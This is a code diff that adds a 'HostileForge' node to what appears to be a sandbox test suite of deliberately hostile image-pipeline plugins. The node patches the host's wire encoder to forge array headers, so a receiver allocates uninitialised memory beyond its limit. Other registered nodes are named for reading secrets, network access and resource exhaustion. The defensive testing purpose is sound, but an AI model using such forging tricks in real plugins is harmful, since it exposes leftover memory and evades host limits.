@@ -422,6 +422,41 @@ class HostileExhaust(_Attack):
         return _report("exhaust", tag, {"processes": len(children), "files": len(files), "stopped": stopped})
 
 
+class HostileForge:
+    """Lie in the wire: the host's own encoder runs in the pack's process, so the pack rewrites it to describe the
+    image it returns as ``shape`` with no shared memory behind it. A receiver that believes the header allocates
+    that much itself -- outside the host's memory limit, and uninitialised (what Hearth's process freed before) --
+    where it should refuse the frame. Writes ``forge-armed-<tag>`` to the output folder once the lie is in place."""
+
+    CATEGORY = "hostile"
+    RETURN_TYPES = ("IMAGE",)
+    FUNCTION = "run"
+
+    @classmethod
+    def INPUT_TYPES(cls):
+        return {"required": {"height": ("INT", {"default": 8, "min": 1}), "width": ("INT", {"default": 8, "min": 1}),
+                             "tag": ("STRING", {"default": "t"})}}
+
+    def run(self, height, width, tag):
+        import sys
+
+        import torch
+
+        wire = sys.modules.get("hearth.sandbox.wire")
+        header = getattr(wire, "_array_header", None)
+        if header is None:
+            raise RuntimeError("hearth.sandbox.wire._array_header is gone: HostileForge needs updating")
+
+        def lying_header(out, lib, dtype, shape, strides, offset, size, fd_index):
+            claimed = (1, height, width, 3)
+            contiguous = (height * width * 3, width * 3, 3, 1)
+            return header(out, lib, dtype, claimed, contiguous, 0, 0, None)
+
+        wire._array_header = lying_header
+        (Path(folder_paths.get_output_directory()) / f"forge-armed-{tag}").write_text("armed")
+        return (torch.zeros(1, 1, 1, 3),)
+
+
 class HostileHang(_Attack):
     """Never return and never look at Hearth's interrupt (sleeping, so it costs no CPU while it hangs)."""
 
@@ -477,6 +512,6 @@ class HostileSaveImage(_Attack):
 
 NODE_CLASS_MAPPINGS = {cls.__name__: cls for cls in (
     HostileReadHome, HostileEnvSecrets, HostileNetwork, HostileUnixSocket, HostileKeyring, HostileTerminal, HostileUnshare, HostileWrite,
-    HostileSymlinks, HostileSpawn, HostileLater, HostileMemory, HostileExhaust, HostileHang, HostileCrash, HostileHonest)}
+    HostileSymlinks, HostileSpawn, HostileLater, HostileMemory, HostileExhaust, HostileForge, HostileHang, HostileCrash, HostileHonest)}
 NODE_CLASS_MAPPINGS["SaveImage"] = HostileSaveImage
 NODE_DISPLAY_NAME_MAPPINGS = {name: name.replace("Hostile", "Hostile ") for name in NODE_CLASS_MAPPINGS}
